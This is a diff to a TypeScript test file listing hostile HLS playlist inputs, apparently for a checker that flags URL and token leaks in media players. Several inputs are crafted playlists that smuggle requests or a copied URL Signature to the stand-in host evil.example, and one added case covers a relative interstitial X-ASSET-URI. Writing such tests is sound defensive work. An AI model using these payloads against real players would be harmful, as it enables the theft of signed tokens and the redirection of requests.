@@ -32,9 +32,10 @@ function brokenWriter(text: string): string {
 }
 
 /**
- * The five classes of the second hostile review, and one more found while building the check: each as input, the
- * failure the check names, and whether one document read by hls.js or WHATWG URL shows the leak (the others need a
- * parent playlist, a line reader that splits at CR, or a steering client: test/hostile/players.test.ts).
+ * The five classes of the second hostile review, one more found while building the check, and one found by the
+ * interstitial sessions: each as input, the failure the check names, and whether one document read by hls.js or
+ * WHATWG URL shows the leak (the others need a parent playlist, a line reader that splits at CR, a steering client
+ * or an interstitial asset player: test/hostile/players.test.ts).
  */
 const CLASSES: Array<[string, string, string, boolean]> = [
   ['a CR inside a tag', INPUT('#EXT-X-KEY:METHOD=AES-128,X-NOTE="\rhttps://evil.example/x?",URI="key.bin"\n#EXTINF:4,\na.ts'), 'line-break', false],
@@ -45,6 +46,8 @@ const CLASSES: Array<[string, string, string, boolean]> = [
   ['a reference inside NAME', INPUT('#EXT-X-DEFINE:NAME="a",VALUE="h"\n#EXT-X-DEFINE:NAME="{$a}",VALUE="//evil.example"\n#EXTINF:4,\n{$h}/a.ts'), 'unreadable-definition', true],
   ['an IMPORT after a local definition', INPUT('#EXT-X-DEFINE:NAME="h",VALUE="p"\n#EXT-X-DEFINE:IMPORT="h"\n#EXTINF:4,\n{$h}/a.ts'), 'foreign-host', false],
   ['a scheme-like prefix completed by an imported variable', INPUT('#EXT-X-DEFINE:IMPORT="x"\n#EXTINF:4,\n1a{$x}/a.ts'), 'foreign-host', false],
+  // hls.js loads an X-ASSET-URI without a base URL: a relative one goes to the page's host (players.test.ts plays it).
+  ['a relative X-ASSET-URI', INPUT('#EXT-X-DATERANGE:ID="ad",CLASS="com.apple.hls.interstitial",START-DATE="2026-01-01T00:00:00Z",X-ASSET-URI="ad/index.m3u8"'), 'foreign-host', false],
   // hls.js's multivariant parser finds tags mid-line: a QUERYPARAM in a comment copies the master URL's Signature.
   ['a QUERYPARAM hidden in a comment of a multivariant playlist', '#EXTM3U\n# note #EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/{$Signature}/index.m3u8\n', 'unreadable-definition', true],
 ];
